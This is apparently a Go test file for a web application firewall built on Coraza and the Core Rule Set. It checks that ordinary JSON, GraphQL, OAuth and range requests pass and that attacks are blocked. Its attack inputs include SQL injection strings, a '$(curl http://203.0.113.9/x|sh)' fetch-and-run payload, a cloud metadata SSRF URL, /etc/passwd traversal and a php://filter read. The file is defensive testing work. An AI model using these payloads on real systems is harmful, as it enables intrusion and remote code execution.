package crs

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3/experimental/plugins"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"

	"github.com/weirgate/weir"
	"github.com/weirgate/weir/internal/racing"
	"github.com/weirgate/weir/waf"
)

func inspect(t testing.TB, w *waf.WAF, in waf.Input) weir.Inspection {
	t.Helper()
	in.Mode, in.Host, in.Proto = max(in.Mode, weir.Enforce), "api.example.test", "HTTP/1.1"
	if in.Path == "" {
		in.Path = "/v1/x"
	}
	if in.Header == nil {
		in.Header = browser()
	}
	var r weir.Inspection
	w.Inspect(t.Context(), &in, &r)
	return r
}

func body(media, text string) waf.Input {
	h := browser()
	if media != "" {
		h.Set("Content-Type", media)
	}
	return waf.Input{Method: "POST", Header: h, Body: []byte(text)}
}

// WAF-05 (coreruleset#4342): JSON without its content type was read as a form, and a hospital blocked.
func TestJSONUnderAnyName(t *testing.T) {
	racing.Skip(t)
	w := load(t, Options{})
	for _, media := range []string{"application/json", "text/plain", "", "application/vnd.api+json", "application/problem+json", "application/x-ndjson", "application/octet-stream"} {
		if r := inspect(t, w, body(media, `{"hospitals":["select specialty hospital"]}`)); r.Verdict != weir.Clean {
			t.Errorf("%q: %+v", media, r)
		}
		if r := inspect(t, w, body(media, `{"hospitals":["1 UNION SELECT password FROM users-- -"]}`)); r.Verdict != weir.Blocked || r.Matches[0].Location != "json" || r.Matches[0].Name != "hospitals" {
			t.Errorf("%q: the attack: %+v", media, r)
		}
	}
}

// WAF-07 (coreruleset#2674): GraphQL was taken for commands.
func TestGraphQL(t *testing.T) {
	racing.Skip(t)
	w := load(t, Options{})
	documents := []string{
		"{ user(id: 4) { id name } }", "{\n  user(id: 4) {\n    id\n    name\n  }\n}", "query { me { id } }", "query Q($id: ID!) { user(id: $id) { ...F } }\nfragment F on User { id, name }",
		"mutation Add($in: OrderInput!) { createOrder(input: $in) { id status } }", "subscription { ticks(every: 5) { at } }",
		"{ a: user(id: 1) { name } b: user(id: 2) { name } }", "{ search(text: \"chairs, oak\", first: 10, where: {price: {gt: 1.5, lt: 20}, tags: [A, B]}) { edges { node { id } } } }",
		"query ($a: [Int!]! = [1, 2]) @live { x(a: $a) @include(if: true) { y } }", "{ __schema { types { name fields { name type { kind ofType { name } } } } } }",
		"{ user { system { exec(limit: 1) { id } } } }", "{ select { from { where { id } } } }", "{ delete { update { drop } } }", "{ sleep(n: 5) { cat { id ls pwd } } }",
		"{ files(path: \"docs\") { tail(n: 10) head(n: 1) sort uniq } }", "# who is there\n{ me { id } }", "{ text(value: \"\"\"\nTwo lines,\nso to say.\n\"\"\") }",
	}
	for range 3 { // with other names, so that there are fifty
		for _, d := range documents[:len(documents)/2] {
			documents = append(documents, strings.NewReplacer("user", "member", "id", "key").Replace(d))
		}
	}
	for _, d := range documents {
		text := fmt.Sprintf(`{"query":%q,"variables":{"id":"4"}}`, d)
		if r := inspect(t, w, body("application/json", text)); r.Verdict != weir.Clean && r.Verdict != weir.Plain {
			t.Errorf("%s: %+v", d, r.Matches)
		}
		if r := inspect(t, w, asking("query="+url.QueryEscape(d)+"&operationName=Q")); r.Verdict != weir.Clean && r.Verdict != weir.Plain {
			t.Errorf("by GET: %s: %+v", d, r.Matches)
		}
	}
	for _, attack := range []string{
		`{"query":"query($id:ID!){user(id:$id){name}}","variables":{"id":"1' UNION SELECT password FROM users-- -"}}`,
		`{"query":"{ user(id: \"1' UNION SELECT password FROM users-- -\") { name } }"}`,
		`{"query":"{ user { name } } # ' UNION SELECT password FROM users-- -"}`,
		`{"query":"1' UNION SELECT password FROM users-- -"}`,
		`{"query":"{ user(id: \"$(curl http://203.0.113.9/x|sh)\") { name } }"}`,
	} {
		if r := inspect(t, w, body("application/json", attack)); r.Verdict != weir.Blocked {
			t.Errorf("%s: %+v", attack, r)
		}
		var pairs map[string]any
		if err := json.Unmarshal([]byte(attack), &pairs); err != nil {
			t.Fatal(err)
		}
		if r := inspect(t, w, asking("query="+url.QueryEscape(pairs["query"].(string))+"&variables="+url.QueryEscape(fmt.Sprint(pairs["variables"])))); r.Verdict != weir.Blocked {
			t.Errorf("by GET: %s: %+v", attack, r)
		}
	}
}

// asking is a GET with a query.
func asking(query string) waf.Input {
	return waf.Input{Mode: weir.Enforce, Method: "GET", Proto: "HTTP/1.1", Host: "x", Path: "/", Query: query, Header: browser()}
}

// What ordinary clients send and the rule set takes for an attack, beside attacks that are alike.
func TestOrdinaryClients(t *testing.T) {
	racing.Skip(t)
	w := load(t, Options{})
	ranged := func(path string, n int) waf.Input {
		in := asking("")
		in.Path, in.Header = path, browser("Range", "bytes=0-1"+strings.Repeat(",2-3", n-1))
		return in
	}
	const form, multi = "application/x-www-form-urlencoded", "multipart/form-data; boundary=b"
	for name, in := range map[string]waf.Input{
		"a native program's login":   asking("response_type=code&redirect_uri=" + url.QueryEscape("http://127.0.0.1:51004/callback")), // RFC 8252
		"over IPv6":                  asking("redirect_uri=" + url.QueryEscape("http://[::1]:51004/callback")),
		"by name":                    asking("redirect_uri=" + url.QueryEscape("http://localhost:51004/")),
		"its registration":           body("application/json", `{"redirect_uris":["http://127.0.0.1:8910/callback","http://localhost:1/"],"client_name":"cli"}`),
		"its token":                  body(form, "grant_type=authorization_code&redirect_uri="+url.QueryEscape("http://127.0.0.1:8910/callback")),
		"a reader of PDF":            ranged("/a/b.PDF", 62), // coreruleset#499
		"Retrofit":                   body(multi, "--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: binary\r\nContent-Type: application/json; charset=UTF-8\r\n\r\n{\"b\":1}\r\n--b--\r\n"),
		"a file as file(1) names it": body(multi, "--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"b.png\"\r\nContent-Type: image/png; charset=binary\r\n\r\n\x89PNG\r\n--b--\r\n"),
		"five ranges":                ranged("/a.mp4", 5),
	} {
		if r := inspect(t, w, in); r.Verdict == weir.Blocked {
			t.Errorf("%s: %+v", name, r.Matches)
		}
	}
	for name, in := range map[string]waf.Input{
		"another parameter":   asking("url=" + url.QueryEscape("http://127.0.0.1:51004/callback")),
		"another address":     asking("redirect_uri=" + url.QueryEscape("http://169.254.169.254/latest/meta-data")),
		"an attack behind it": asking("redirect_uri=" + url.QueryEscape("http://127.0.0.1:1/' UNION SELECT password FROM users-- -")),
		"a climb behind it":   asking("redirect_uri=" + url.QueryEscape("http://127.0.0.1:1/../../etc/passwd")),
		"six ranges":          ranged("/a.mp4", 6),
		"63 ranges of a PDF":  ranged("/a.pdf", 63),
		"a PDF in the way":    ranged("/a.pdf/b", 6),
	} {
		if r := inspect(t, w, in); r.Verdict != weir.Blocked {
			t.Errorf("%s: %+v", name, r)
		}
	}
}

// WAF-12 (coraza#975, coraza-caddy#258): every reload kept the rules that it displaced.
func TestReloadsKeepNothing(t *testing.T) {
	racing.Skip(t)
	reload := func() {
		rules, err := New(Options{})
		if err != nil {
			t.Fatal(err)
		}
		if err := rules.Close(); err != nil {
			t.Fatal(err)
		}
	}
	settled := func() uint64 {
		for range 3 { // what RE2 holds is given back by finalizers
			runtime.GC()
			time.Sleep(10 * time.Millisecond)
		}
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	reload()
	reload()
	before := settled()
	for range 4 {
		reload()
	}
	after := settled()
	grown := func() bool { return after > before+before/5+1<<20 }
	for until := time.Now().Add(20 * time.Second); grown() && time.Now().Before(until); { // finalizers wait for a processor, too
		after = settled()
	}
	t.Logf("%d KB before, %d KB after", before>>10, after>>10)
	if grown() {
		t.Errorf("the heap grew from %d to %d KB", before>>10, after>>10)
	}
}

// Sets that are alike share their patterns: ten cost little more than one.
func TestSetsShare(t *testing.T) {
	racing.Skip(t)
	heap := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	empty := heap()
	first := load(t, Options{})
	one := heap() - empty
	var more []*waf.WAF
	for range 4 {
		more = append(more, load(t, Options{}))
	}
	five := heap() - empty
	t.Logf("one set: %d KB, five: %d KB", one>>10, five>>10)
	if five > 5*one*6/10 {
		t.Errorf("one set has %d KB, five have %d KB", one>>10, five>>10)
	}
	runtime.KeepAlive(first)
	runtime.KeepAlive(more)
}

// panics is an operator with a fault.
type panics struct{}

func (panics) Evaluate(plugintypes.TransactionState, string) bool {
	panic("cannot match what I was given")
}

// A fault in the engine lets that one request pass, and the engine is as good as before.
func TestPanickingOperator(t *testing.T) {
	racing.Skip(t)
	plugins.RegisterOperator("weirPanics", func(plugintypes.OperatorOptions) (plugintypes.Operator, error) { return panics{}, nil })
	w := load(t, Options{extra: `SecRule REQUEST_HEADERS:X-Fault "@weirPanics" "id:199999,phase:2,pass,t:none"`})
	for range 20 {
		in := body("application/json", `{"a":"1 UNION SELECT password FROM users-- -"}`)
		in.Header.Set("X-Fault", "1")
		if r := inspect(t, w, in); r.Verdict != weir.FailedOpen || r.Fault != "panic" || !strings.Contains(r.Trace, "crs.panics.Evaluate") {
			t.Fatalf("%+v", r)
		}
		in.Header.Del("X-Fault")
		if r := inspect(t, w, in); r.Verdict != weir.Blocked {
			t.Fatalf("afterwards: %+v", r)
		}
		if r := inspect(t, w, body("application/json", `{"a":"it's all right"}`)); r.Verdict != weir.Clean {
			t.Fatalf("afterwards: %+v", r)
		}
	}
}

// Everything may be asked at once, and while another set is loaded and closed.
func TestAtOnce(t *testing.T) {
	w := load(t, Options{})
	var asking sync.WaitGroup
	for i := range 8 {
		asking.Go(func() {
			for range 10 {
				if r := inspect(t, w, body("application/json", fmt.Sprintf(`{"a":"it's %d"}`, i))); r.Verdict != weir.Clean {
					t.Errorf("%+v", r)
				}
				if r := inspect(t, w, waf.Input{Method: "GET", Query: fmt.Sprintf("id=%d+UNION+SELECT+1,2,3--", i)}); r.Verdict != weir.Blocked {
					t.Errorf("%+v", r)
				}
			}
		})
	}
	rules, err := New(Options{Paranoia: 2, Languages: []string{"php"}})
	if err != nil {
		t.Fatal(err)
	}
	if err := rules.Close(); err != nil {
		t.Error(err)
	}
	asking.Wait()
}

// Rule files are loaded for the languages that are named; none means all.
func TestLanguages(t *testing.T) {
	racing.Skip(t)
	php := waf.Input{Method: "GET", Query: "name=php://filter/convert.base64-encode/resource=index"}
	node := body("application/json", `{"a":"x.__proto__.y"}`)
	for _, test := range []struct {
		languages []string
		php, node weir.Verdict
	}{
		{nil, weir.Blocked, weir.Blocked},
		{[]string{"php"}, weir.Blocked, weir.Clean},
		{[]string{"node"}, weir.Clean, weir.Blocked},
	} {
		w := load(t, Options{Languages: test.languages})
		if r := inspect(t, w, php); r.Verdict != test.php {
			t.Errorf("%v: PHP: %+v", test.languages, r)
		}
		if r := inspect(t, w, node); r.Verdict != test.node {
			t.Errorf("%v: Node: %+v", test.languages, r)
		}
	}
	if _, err := New(Options{Languages: []string{"perl"}}); err == nil || !strings.Contains(err.Error(), `"perl": want php, java or node`) {
		t.Errorf("perl: %v", err)
	}
}

// A higher paranoia sees more.
func TestParanoia(t *testing.T) {
	racing.Skip(t)
	in := waf.Input{Method: "GET", Query: "q=" + strings.Repeat("%26%23", 8)}
	if r := inspect(t, load(t, Options{}), in); r.Verdict != weir.Clean {
		t.Errorf("1: %+v", r)
	}
	if r := inspect(t, load(t, Options{Paranoia: 3}), in); r.Verdict != weir.Blocked {
		t.Errorf("3: %+v", r)
	}
}

// What passes fast, and what does not.
func TestSafe(t *testing.T) {
	racing.Skip(t)
	w := load(t, Options{})
	get := func(path, query string, more ...string) waf.Input {
		return waf.Input{Method: "GET", Path: path, Query: query, Header: browser(more...)}
	}
	for _, in := range []waf.Input{
		get("/", ""), get("/v1/items/42", "page=2&sort=name"), get("/v1/packages/left-pad1/1.3.0", ""), get("/app.js", "v=17"),
		get("/v1/scores/0x52908400098527886E0F7030069857D2E4169EE7", ""), get("/", "", "Authorization", "Bearer abc.def"),
		body("application/json", `{"id":7,"name":"chair","on":true,"at":[1,2.5]}`),
	} {
		if r := inspect(t, w, in); r.Verdict != weir.Plain {
			t.Errorf("%s?%s %s: %v", in.Path, in.Query, in.Body, r.Verdict)
		}
	}
	for _, in := range []waf.Input{
		get("/a/../b", ""), get("/.env", ""), get("//a", ""), get("/a%20b", ""), get("/db.sql", ""), get("/package.json", ""), get("/", "q=it%27s"), get("/", "q=a+b"), get("/", "__proto__=1"),
		get("/", "q=../a"), get("/", "", "Referer", "https://a.test/?q='"), get("/", "", "Cookie", "a=1"), get("/", "", "User-Agent", "sqlmap/1.7"),
		get("/", "", "User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"), get("/", "", "X-Other", "1"), get("/", "", "Range", "bytes=0-1"), get("/"+strings.Repeat("a/", 600), ""),
		{Method: "TRACE", Path: "/", Header: browser()}, {Method: "GET", Path: "/", Header: browser("Content-Type", "text/plain")},
		body("application/json", `{"name":"it's"}`), body("text/plain", `word`), {Method: "POST", Header: browser("Content-Type", "application/json")},
		{Method: "GET", Path: "/", Header: http.Header{"Accept": {"*/*", "*/*"}}},
	} {
		if r := inspect(t, w, in); r.Verdict == weir.Plain {
			t.Errorf("%s %s?%s %s %v: passes fast", in.Method, in.Path, in.Query, in.Body, in.Header)
		}
	}
}
